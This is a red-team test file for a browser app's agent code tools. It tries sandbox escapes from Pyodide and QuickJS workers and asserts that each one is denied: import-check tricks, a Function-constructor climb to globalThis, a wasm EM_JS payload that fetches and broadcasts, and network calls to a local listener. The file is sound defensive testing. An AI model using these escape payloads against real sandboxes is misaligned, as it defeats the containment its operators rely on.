// Red team, in the browser: the built site in Debian's headless Chromium, one page load, attempts to
// get out of the agents' code tools (Python on Pyodide, JavaScript on QuickJS, both in Web Workers)
// through the page's own tool entry (the lab's 'tool' request), and a probe standing in for guest code that got
// JavaScript running in a tool worker (test/fixtures/red-team-probe/python-worker-probe.mjs), bound by
// the tool workers' Content-Security-Policy, which the site's service worker adds on this plain host,
// and the same probe in a worker of the page's opaque-origin frame (src/platform/browser/tool-frame.ts),
// where both tools run (Python and, from one bundled script with its wasm as bytes, QuickJS): none of
// this origin's storage, channels or files there.
// A listener on 127.0.0.1 shows any network reach. docs/threat-model.md lists the attempts and results.
// Cost: the site build (shared with the other e2e files) and one page load, about 20-40 s.

import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { chromiumAvailable, ensureBuilt, launchChromium, serveStatic, type StaticServer } from '../helpers/browser.ts';
import { warnIfSkipped } from '../helpers/webgpu.ts';
import { emJsLibrary, loadLibraryPython, startListener, type Listener } from '../helpers/red-team.ts';

const have = chromiumAvailable();
warnIfSkipped('browser red-team suite (test/e2e/red-team.test.ts)', have);

interface ToolAnswer {
  stdout: string;
  stderr: string;
  error?: string;
}

describe.skipIf(!have.ok)('the code tools in the browser, attacked', () => {
  let server: StaticServer;
  let browser: Browser;
  let page: Page;
  let listener: Listener;
  let dist: string;
  const problems: string[] = [];
  const tool = (code: string, language: 'python' | 'javascript') => page.evaluate(([c, l]) => (window as unknown as {
    __mappa: { client: { request(t: string, a: object): Promise<ToolAnswer> } } }).__mappa.client.request('tool', { code: c, language: l }), [code, language] as const);

  beforeAll(async () => {
    listener = await startListener();
    dist = await ensureBuilt('site');
    server = await serveStatic(dist, { '/probe/': 'test/fixtures/red-team-probe' });
    browser = await launchChromium();
    page = await browser.newPage();
    page.on('pageerror', (e) => problems.push(e.message));
    await page.goto(`${server.url}?backend=wasm`, { waitUntil: 'load' });
    // No COOP/COEP from this server: the service worker takes control and reloads the page once.
    await page.waitForFunction(() => crossOriginIsolated, undefined, { timeout: 120_000, polling: 250 });
    await page.waitForFunction(() => {
      const r = (window as unknown as { __mappa?: { run?: { state: string } } }).__mappa?.run;
      return r && (r.state === 'ready' || r.state === 'error');
    }, undefined, { timeout: 120_000, polling: 250 });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    expect(listener.hits()).toEqual([]);
    await listener?.close();
  });

  it.each([
    ['fools the import check with a str subclass', "class S(str):\n    def split(self, *a): return ['math']\n    def partition(self, *a): return ('math', '', '')\nprint('GOT', __import__(S('_pyodide_core')))"],
    ['creates _pyodide_core through _imp.create_builtin', "import _imp, importlib.machinery\nprint('GOT', _imp.create_builtin(importlib.machinery.ModuleSpec('_pyodide_core', importlib.machinery.BuiltinImporter)))"],
    ['imports js', 'import js\nprint("GOT", js.fetch)'],
    ['fetches the listener with urllib', 'import urllib.request\nurllib.request.urlopen("http://127.0.0.1:PORT/")'],
    ['connects a socket to the listener', 'import socket\nsocket.create_connection(("127.0.0.1", PORT))'],
  ])('python %s: refused', async (_name, code) => {
    const r = await tool(code.replace(/PORT/g, String(listener.port)), 'python');
    expect(r.error).toMatch(/forbidden/);
    expect(r.stdout).not.toContain('GOT');
  });

  it('python runs in the opaque-origin frame, and still computes', async () => {
    const r = await tool('import math\nprint(math.factorial(10))', 'python');
    expect(r).toMatchObject({ stdout: '3628800\n' });
    const spawned = await page.evaluate(async () => (await (window as unknown as { __mappa: { toolFrame: Promise<{ spawned: number } | undefined> } })
      .__mappa.toolFrame)?.spawned);
    expect(spawned).toBeGreaterThanOrEqual(1); // the Python worker was started by the frame, not in this origin
  });

  it("python takes a JS function from Pyodide's internals and asks its constructor for the global object: nothing", async () => {
    const r = await tool("import time\nf = time.sleep.__globals__['create_once_callable'](lambda: 1)\ng = f.constructor('return globalThis')()\nprint('GOT', g.indexedDB)", 'python');
    expect(r.error).toBeTruthy();
    expect(r.stdout).not.toContain('GOT');
  });

  it('python loads a hand-made wasm library whose EM_JS would fetch, read storage and broadcast: refused before any JavaScript', async () => {
    const js = `0, (() => { fetch('http://127.0.0.1:${listener.port}/emjs'); new BroadcastChannel('mappa').postMessage('escaped');`
      + ` indexedDB.open('x'); import('http://127.0.0.1:${listener.port}/x.mjs'); })()`;
    const r = await tool(loadLibraryPython(emJsLibrary(js)), 'python');
    expect(r.error).toMatch(/forbidden: loading native modules is not allowed/);
  });

  it('javascript runs in the opaque-origin frame too, and still computes', async () => {
    const spawned = () => page.evaluate(async () => (await (window as unknown as { __mappa: { toolFrame: Promise<{ spawned: number } | undefined> } })
      .__mappa.toolFrame)?.spawned ?? 0);
    const before = await spawned();
    // The first JavaScript run in this page: it starts the QuickJS worker, in the frame (a hand-worked 4! x 1000).
    const r = await tool('console.log([1, 2, 3, 4].reduce((a, b) => a * b, 1) * 1000)', 'javascript');
    expect(r).toMatchObject({ stdout: '24000\n' });
    expect(r.error).toBeUndefined();
    expect(await spawned()).toBe(before + 1); // the QuickJS worker was started by the frame, not in this origin
  });

  it('javascript finds no host object and cannot import a URL', async () => {
    const globals = await tool('console.log(typeof fetch, typeof importScripts, typeof self, typeof postMessage, typeof BroadcastChannel, typeof indexedDB)', 'javascript');
    expect(globals.stdout).toBe('undefined undefined undefined undefined undefined undefined\n');
    const imported = await tool(`import("http://127.0.0.1:${listener.port}/x.js").then(() => console.log("GOT"))`, 'javascript');
    expect(imported.stdout).not.toContain('GOT');
  });

  it('the tool workers\' scripts carry their Content-Security-Policy', async () => {
    const assets = fs.readdirSync(path.join(dist, 'assets')).filter((f) => /^(python-worker|quickjs-worker)/.test(f));
    expect(assets.length).toBeGreaterThanOrEqual(2);
    for (const file of assets) {
      const csp = await page.evaluate(async (u) => (await fetch(u)).headers.get('content-security-policy'), `/assets/${file}`);
      expect(csp, file).toMatch(/script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'/);
    }
  });

  it('guest JavaScript inside a tool worker (the probe): no eval, no network, no import() of a URL, no nested worker', async () => {
    const results = await page.evaluate((port) => new Promise<Record<string, string>>((resolve) => {
      const w = new Worker('/probe/python-worker-probe.mjs', { type: 'module' });
      w.onmessage = (e) => resolve(e.data);
      w.postMessage({ port });
    }), listener.port);
    console.log(`[red-team] probe in a tool worker's policy: ${JSON.stringify(results, null, 1)}`);
    for (const name of ['eval', 'Function constructor', 'fetch the listener', 'fetch the listener through WorkerGlobalScope.prototype',
      'import() of a URL', 'WebSocket to the listener', 'nested worker']) {
      expect(results[name], name).toMatch(/^DENIED/);
    }
    // Still reachable from JavaScript in a same-origin tool worker (where a tool runs only on a page with no
    // frame, docs/threat-model.md): this origin's files, storage and channels. Both tools' workers are in the
    // opaque-origin frame on the site's page: the next test.
    expect(results['same-origin fetch']).toMatch(/^OK/);
  });

  it("guest JavaScript in a tool worker inside the opaque-origin frame: none of this origin's storage, channels or files", async () => {
    const results = await page.evaluate(async (port) => {
      // Things of this origin for the probe to find: a database, a cache, a channel that listens.
      await new Promise((resolve, reject) => {
        const req = indexedDB.open('red-team-canary');
        req.onsuccess = () => resolve(req.result.close());
        req.onerror = () => reject(req.error);
      });
      await caches.open('red-team-canary');
      const heard: unknown[] = [];
      const channel = new BroadcastChannel('mappa');
      channel.onmessage = (e) => heard.push(e.data);
      const source = await (await fetch('/probe/python-worker-probe.mjs')).text();
      const mappa = (window as unknown as { __mappa: { openToolFrame(): Promise<{
        spawn(s: string): { port: MessagePort; terminate(): void }; close(): void }> } }).__mappa;
      const frame = await mappa.openToolFrame();
      const tool = frame.spawn(source);
      const r = await new Promise<Record<string, string>>((resolve) => {
        tool.port.onmessage = (e) => resolve(e.data);
        tool.port.postMessage({ port, site: location.origin });
      });
      await new Promise((resolve) => setTimeout(resolve, 500)); // a broadcast would have arrived by now
      channel.close();
      tool.terminate();
      frame.close();
      return { ...r, 'heard on the page': JSON.stringify(heard) } as Record<string, string>;
    }, listener.port);
    console.log(`[red-team] probe in the opaque-origin frame: ${JSON.stringify(results, null, 1)}`);
    for (const name of ['eval', 'Function constructor', 'fetch the listener', 'fetch the listener through WorkerGlobalScope.prototype',
      'import() of a URL', 'WebSocket to the listener', 'nested worker', 'same-origin fetch', "IndexedDB of the page's origin",
      "IndexedDB databases of the page's origin", "Cache Storage of the page's origin"]) {
      expect(results[name], name).toMatch(/^DENIED/);
    }
    // A channel made there belongs to the opaque origin: the page's listener hears nothing.
    expect(results['heard on the page']).toBe('[]');
  });
});
